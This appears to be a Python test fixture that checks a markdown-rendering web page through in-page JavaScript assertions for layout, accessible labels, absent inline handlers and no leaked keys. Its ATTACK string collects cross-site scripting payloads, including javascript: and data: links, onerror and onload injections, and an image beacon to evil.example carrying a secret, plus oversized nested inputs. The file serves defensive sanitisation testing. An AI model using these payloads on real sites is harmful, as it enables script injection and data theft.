"""Questions to the page, in its own language, and what it is told to show."""

import page_fleet

# Nothing reaches over the side.
FITS = "document.documentElement.scrollWidth <= innerWidth && document.body.scrollWidth <= innerWidth"

# Everything that can be used has a name.
NAMED = """
[...document.querySelectorAll('button, a, input, select, textarea, [role=button]')]
  .filter(e => e.offsetParent && !(e.innerText || e.getAttribute('aria-label') || e.labels?.length || e.textContent))
  .length === 0
"""

# Every card is inside the picture.
INSIDE = """
(() => {
  const box = document.querySelector('.topology').getBoundingClientRect();
  return [...document.querySelectorAll('.card .box')].map(e => e.getBoundingClientRect())
    .every(r => r.left >= box.left - 1 && r.right <= box.right + 1 && r.bottom <= box.bottom + 1);
})()
"""

# No card covers another one.
APART = """
(() => {
  const all = [...document.querySelectorAll('.card .box')].map(e => e.getBoundingClientRect());
  const beside = (a, b) => a.right <= b.left + 1 || b.right <= a.left + 1 || a.bottom <= b.top + 1 || b.bottom <= a.top + 1;
  return all.every((a, i) => all.slice(i + 1).every(b => beside(a, b)));
})()
"""

NAMES = "[...document.querySelectorAll('.card')].map(e => e.getAttribute('aria-label').split(':')[0]).sort()"
WORDS = "document.querySelector('#health .words').textContent"

# There is nothing on the page but its own.
OWN = """
document.querySelectorAll('img').length === 1 && document.querySelectorAll('script').length === 1
  && document.querySelectorAll('iframe, object, embed').length === 0
"""

# Links of messages lead to the web only, and there are some.
LINKS = """
(links => links.length > 0 && links.every(a => /^(https?|mailto):/.test(a.protocol)))(
  [...document.querySelectorAll("#messages a")])
"""

# No element has a handler as an attribute.
QUIET = "[...document.querySelectorAll('*')].every(e => e.getAttributeNames().every(n => !n.startsWith('on')))"

# Where a key must not be.
KEPT = "[JSON.stringify(localStorage), document.cookie, location.href, document.documentElement.outerHTML].join()"

ANSWER = (
    "The person asks about pipelines. Three points are enough.",
    """A **pipeline** keeps every device busy:

1. The layers are cut into *stages*, one a device.
2. While stage 2 works on one micro-batch, stage 1 takes the next.
3. Gaps are `bubbles`.

```swift
for step in steps {
    stage.compute(step)
}
```

| stage | device | layers |
|---|---|---|
| 0 | pi5-01 | 0–9 |
| 1 | desk-02 | 10–29 |

More in the [paper](https://arxiv.org/abs/2606.03770).
""",
)

ATTACK = "\n\n".join(
    [
        *page_fleet.ATTACKS,
        "[click](javascript:window.attacked=1) [data](data:text/html,<script>window.attacked=1</script>)",
        "[odd](JaVaScRiPt:window.attacked=1) [break](https://a.example/\"onmouseover=\"window.attacked=1)",
        '![picture](https://evil.example/steal.png?secret) ![x](x" onerror="window.attacked=1)',
        "<https://a.example/><b onclick=window.attacked=1>x</b>",
        "# <img src=x onerror=window.attacked=1>",
        "| <svg/onload=window.attacked=1> | b |\n|---|---|\n| <img src=x onerror=window.attacked=1> | `<script>a</script>` |",
        "```<img src=x onerror=window.attacked=1>\n</code></pre><script>window.attacked=1</script>\n```",
        "- " * 400 + "x",
        "> " * 400 + "x",
        "*" * 3000,
        "[" * 3000,
    ]
)
